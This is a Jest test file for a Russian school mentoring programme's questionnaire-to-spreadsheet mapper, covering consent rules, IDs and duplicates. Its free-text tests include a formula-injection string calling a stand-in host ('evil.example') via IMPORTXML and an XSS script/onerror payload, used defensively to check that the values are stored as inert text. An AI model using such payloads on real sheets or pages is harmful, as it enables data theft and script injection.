import { keepCell } from "../../../src/domain/workbook/codec";
import {
  CONSENT_YES,
  GUARDIAN_CONSENT_PAPER,
  GUARDIAN_CONSENT_YES,
  item,
  mapResponse,
  type Accepted,
  type MapResult,
  type UpsertTarget,
} from "../../../src/domain/questionnaires";
import { answers, CODES, context } from "./fixtures";

const t = (key: string) => item("mentee", key).title;

function accepted(r: MapResult): UpsertTarget {
  return acceptedWhole(r).target;
}
function acceptedWhole(r: MapResult): Accepted {
  if (!r.ok) throw new Error(`refused: ${r.reason}`);
  return r;
}
function refused(r: MapResult): string {
  if (r.ok) throw new Error(`accepted: ${JSON.stringify(r.target)}`);
  return r.reason;
}

/** A seventh-grader's questionnaire, filled with her mother through the public link (no personal code). */
const petrova = {
  [t("name")]: "Петрова  Дарья Сергеевна",
  [t("category")]: "Обучающийся",
  [t("grade")]: "7 класс",
  [t("birthDate")]: "2013-03-10",
  [t("subject")]: "математика",
  [t("requests")]: "математика, ОГЭ, Хочу научиться выступать",
  [t("form")]: "Ученик – ученик",
  [t("adult")]: "Нет",
  [t("guardianName")]: "Петрова Ольга Ивановна",
  [t("consentGuardian")]: GUARDIAN_CONSENT_YES,
};

/** Сидорова Алина, 7Б, born 04.05.2013, is in the register as НЯ-0001 with consent. */
const alina = {
  ...petrova,
  [t("name")]: "Сидорова Алина",
  [t("grade")]: "7Б",
  [t("birthDate")]: "2013-05-04",
  [t("requests")]: "русский язык",
};

describe("mentee questionnaire → «Наставляемые»", () => {
  it("a new pupil gets the next free ID, a personal code, «кандидат», «Дата анкеты» and the guardian's consent", () => {
    const result = acceptedWhole(mapResponse("mentee", answers(petrova), context));
    const target = result.target;
    expect(target.sheet).toBe("mentees");
    // «НЯ-0001», «НЯ-0002» exist: the next is 3 (Орлов Денис has no ID yet and is a different person).
    expect(target.key).toEqual([{ column: "id", value: "НЯ-0003" }]);
    expect(target.row).toEqual({
      id: "НЯ-0003",
      code: "NEWC-ODE2",
      name: "Петрова Дарья Сергеевна",
      category: "обучающийся",
      grade: "7 класс",
      birthDate: "2013-03-10",
      subject: "математика",
      requests: "математика; ОГЭ; Хочу научиться выступать",
      form: "ученик – ученик",
      consent: true,
      status: "кандидат",
      questionnaireDate: "2026-10-12",
      source: "анкета",
    });
    // «Дата вхождения» waits for an approved pair; the age is computed from the birth date, never typed.
    expect(target.row).not.toHaveProperty("joined");
    expect(target.row).not.toHaveProperty("age");
    expect(result.duplicates).toEqual([]);
    // The guardian's name stays in the form's own answers sheet, not in the register.
    expect(Object.values(target.row)).not.toContain("Петрова Ольга Ивановна");
  });

  it("special needs are not asked of the child: the public form has no such item", () => {
    expect(() => item("mentee", "needs")).toThrow();
    expect(accepted(mapResponse("mentee", answers(petrova), context)).row).not.toHaveProperty("needs");
  });

  it("through her personal link the same pupil updates her row by ID, and her guardian may change the consent", () => {
    const byLink = answers({
      ...alina,
      [t("code")]: CODES["НЯ-0001"].toLowerCase().replace("-", " "),
      [t("consentGuardian")]: GUARDIAN_CONSENT_PAPER,
    });
    const result = acceptedWhole(mapResponse("mentee", byLink, context));
    expect(result.verified).toBe(true);
    expect(result.target.key).toEqual([{ column: "id", value: "НЯ-0001" }]);
    expect(result.target.row).toMatchObject({ id: "НЯ-0001", requests: "русский язык", consent: false });
    for (const kept of ["status", "joined", "questionnaireDate", "code", "source"])
      expect(result.target.row).not.toHaveProperty(kept);
  });

  it("without a code, a name match with nothing different updates the row but never its consent", () => {
    const result = acceptedWhole(
      mapResponse("mentee", answers({ ...alina, [t("consentGuardian")]: GUARDIAN_CONSENT_PAPER }), context),
    );
    expect(result.verified).toBe(false);
    expect(result.target.key).toEqual([{ column: "id", value: "НЯ-0001" }]);
    expect(result.target.row).toMatchObject({ requests: "русский язык" });
    expect(result.target.row).not.toHaveProperty("consent");
  });

  it("a namesake in another class letter is a new child and a possible duplicate, not an overwrite", () => {
    const namesake = answers({ ...alina, [t("grade")]: "7А", [t("consentGuardian")]: GUARDIAN_CONSENT_PAPER });
    const result = acceptedWhole(mapResponse("mentee", namesake, context));
    expect(result.target.key).toEqual([{ column: "id", value: "НЯ-0003" }]);
    expect(result.target.row).toMatchObject({ name: "Сидорова Алина", grade: "7А", consent: false });
    expect(result.duplicates).toEqual([
      { sheet: "mentees", id: "НЯ-0003", similarId: "НЯ-0001", differences: ["класс: 7Б → 7А"] },
    ]);
  });

  it("so is a namesake born on another day, and one whose age is more than a year off", () => {
    const otherDay = acceptedWhole(
      mapResponse("mentee", answers({ ...alina, [t("birthDate")]: "2013-06-04" }), context),
    );
    expect(otherDay.duplicates?.[0].differences).toEqual(["дата рождения: 04.05.2013 → 04.06.2013"]);
    // Зуева (a teacher, typed age 24, no birth date) and a namesake aged 30.
    const teacher = {
      [t("name")]: "Зуева Марина Олеговна",
      [t("category")]: "педагог",
      [t("birthDate")]: "1996-01-15",
      [t("requests")]: "методика",
      [t("adult")]: "Да",
      [t("consentSelf")]: CONSENT_YES,
    };
    expect(acceptedWhole(mapResponse("mentee", answers(teacher), context)).duplicates?.[0].differences).toEqual([
      "возраст: 24 → 30 (по дате рождения)",
    ]);
    // Born in 2001 she is 25 now: a typed age a year stale is no difference.
    const same = acceptedWhole(mapResponse("mentee", answers({ ...teacher, [t("birthDate")]: "2001-03-01" }), context));
    expect(same.target.key).toEqual([{ column: "id", value: "НЯ-0002" }]);
  });

  it("a code that belongs to someone else, to nobody, or to a mentor is refused whole", () => {
    expect(refused(mapResponse("mentee", answers({ ...petrova, [t("code")]: CODES["НЯ-0001"] }), context))).toBe(
      `личный код «${CODES["НЯ-0001"]}» выдан другому участнику (лист «Наставляемые», строка 2): ФИО в ответе не совпадает — ` +
        "ответ не записан, строка владельца кода не изменена. Если участник сменил ФИО, исправьте его в листе и нажмите «Повторить обработку»",
    );
    expect(refused(mapResponse("mentee", answers({ ...petrova, [t("code")]: "XXXX-YYYY" }), context))).toMatch(
      /^личный код «XXXX-YYYY» не выдан ни одному участнику/,
    );
    expect(refused(mapResponse("mentee", answers({ ...petrova, [t("code")]: CODES["НТ-0001"] }), context))).toBe(
      `личный код «${CODES["НТ-0001"]}» выдан участнику листа «Наставники», а эта анкета заполняет лист «Наставляемые» — ответ не записан`,
    );
  });

  it("a curator's row without an ID is found by name and gets its ID from the answer", () => {
    const denis = answers({
      ...petrova,
      [t("name")]: "орлов  денис",
      [t("grade")]: "8А",
      [t("birthDate")]: "2012-02-02",
    });
    const target = accepted(mapResponse("mentee", denis, context));
    expect(target.key).toEqual([
      { column: "name", value: "Орлов Денис" },
      { column: "category", value: "обучающийся" },
    ]);
    expect(target.row.id).toBe("НЯ-0003");
    // Unverified: the consent ticked (or not) by the curator stays.
    expect(target.row).not.toHaveProperty("consent");
  });

  it("a guardian who will bring a paper consent: the child is kept, marked without consent", () => {
    const paper = answers({ ...petrova, [t("consentGuardian")]: GUARDIAN_CONSENT_PAPER });
    expect(accepted(mapResponse("mentee", paper, context)).row.consent).toBe(false);
  });

  it("a minor cannot consent for herself", () => {
    const self = answers({
      ...petrova,
      [t("adult")]: "Да",
      [t("consentSelf")]: CONSENT_YES,
      [t("consentGuardian")]: "",
      [t("guardianName")]: "",
    });
    expect(refused(mapResponse("mentee", self, context))).toBe(
      "возраст 13, а на вопрос «Вам исполнилось 18 лет?» ответ «Да» — проверьте возраст; " +
        "участнику 13 лет нужно согласие родителя (законного представителя), а в ответе его нет",
    );
  });

  it("a guardian's consent needs the guardian's name", () => {
    const noName = answers({ ...petrova, [t("guardianName")]: "" });
    expect(refused(mapResponse("mentee", noName, context))).toBe(
      "не заполнен обязательный вопрос «ФИО родителя (законного представителя)»",
    );
  });

  it("a young teacher consents herself; her stage is read as a number", () => {
    const teacher = answers({
      [t("name")]: "Крылова Анна Викторовна",
      [t("category")]: "педагог",
      [t("birthDate")]: "12.04.2003",
      [t("experience")]: "0,5",
      [t("subject")]: "английский язык",
      [t("requests")]: ["методика", "классное руководство"],
      [t("adult")]: "Да",
      [t("consentSelf")]: CONSENT_YES,
    });
    const target = accepted(mapResponse("mentee", teacher, context));
    expect(target.row).toMatchObject({
      category: "педагог",
      birthDate: "2003-04-12",
      experience: 0.5,
      requests: "методика; классное руководство",
      consent: true,
    });
  });

  it("a birth date in the future or of a four-year-old is refused", () => {
    for (const day of ["2027-01-01", "2022-10-13"])
      expect(refused(mapResponse("mentee", answers({ ...petrova, [t("birthDate")]: day }), context))).toBe(
        `вопрос «Дата рождения»: «${day}» — ожидается дата рождения участника от 5 до 99 лет`,
      );
  });

  it("an adult without consent is not written to the register", () => {
    const none = answers({
      [t("name")]: "Крылова Анна",
      [t("category")]: "педагог",
      [t("birthDate")]: "2003-04-12",
      [t("requests")]: "методика",
      [t("adult")]: "Да",
    });
    expect(refused(mapResponse("mentee", none, context))).toBe(
      "не заполнен обязательный вопрос «Согласие на обработку персональных данных»",
    );
  });

  it("lists every empty required item and every bad value at once", () => {
    const bad = answers({
      [t("category")]: "директор",
      [t("birthDate")]: "тринадцатое",
      [t("form")]: "ученик – директор",
      [t("adult")]: "Нет",
    });
    expect(refused(mapResponse("mentee", bad, context)).split("; ")).toEqual([
      "не заполнен обязательный вопрос «Фамилия, имя, отчество»",
      "вопрос «Кто вы?»: «директор» — такого варианта ответа нет",
      "вопрос «Дата рождения»: «тринадцатое» — ожидается дата, например 01.09.2026",
      "не заполнен обязательный вопрос «С чем вам нужна помощь наставника?»",
      "вопрос «Какая форма наставничества вам подходит?»: «ученик – директор» — такого варианта ответа нет",
      "не заполнен обязательный вопрос «ФИО родителя (законного представителя)»",
      "не заполнен обязательный вопрос «Согласие родителя (законного представителя) на обработку персональных данных ребёнка»",
    ]);
  });

  it("a pupil without a grade is refused: the grade tells namesakes apart and feeds the indicators", () => {
    expect(refused(mapResponse("mentee", answers({ ...petrova, [t("grade")]: "" }), context))).toBe(
      "для обучающегося нужно указать класс (вопрос «Класс (для обучающихся)»)",
    );
  });
});

describe("what people type into free text", () => {
  const withSubject = (subject: string) =>
    mapResponse("mentee", answers({ ...petrova, [t("subject")]: subject }), context);

  it("formula-like answers are kept as written, and the cell codec writes them as text", () => {
    const typed = ['=IMPORTXML("http://evil.example","//a")', "+7 (900) 123-45-67", "-нет-", "@все"];
    for (const text of typed) {
      const subject = accepted(withSubject(text)).row.subject;
      expect(subject).toBe(text);
      expect(keepCell(subject)).toBe(`'${text}`);
    }
    const name = accepted(mapResponse("mentee", answers({ ...petrova, [t("name")]: "=1+1" }), context));
    expect(name.row.name).toBe("=1+1");
  });

  it("HTML and script are stored as typed (escaping is the renderer's job)", () => {
    const payload = `<script>alert("x")</script><img src=x onerror=alert(1)>`;
    expect(accepted(withSubject(payload)).row.subject).toBe(payload);
  });

  it("emoji and line breaks are kept", () => {
    expect(accepted(withSubject("математика 📐🙂 и физика")).row.subject).toBe("математика 📐🙂 и физика");
  });

  it("a 60,000-character answer is refused whole, with the reason, not cut", () => {
    const long = "а".repeat(60000);
    expect(refused(withSubject(long))).toBe(
      "вопрос «Предмет»: ответ длиной 60\u00a0000 символов больше предела ячейки Google Таблиц (50\u00a0000) — " +
        "ответ не записан в таблицу, он целиком сохранён в журнале ошибок",
    );
    // Right at the limit it is kept, every character.
    expect(accepted(withSubject("б".repeat(50000))).row.subject).toHaveLength(50000);
  });

  it("a huge answer to a checked item is quoted short in the reason", () => {
    const reason = refused(mapResponse("mentee", answers({ ...petrova, [t("grade")]: "9".repeat(60000) }), context));
    expect(reason.split("; ")[0].length).toBeLessThan(200);
    expect(reason).toMatch(/^вопрос «Класс \(для обучающихся\)»: «9{80}…» — ожидается/);
  });
});
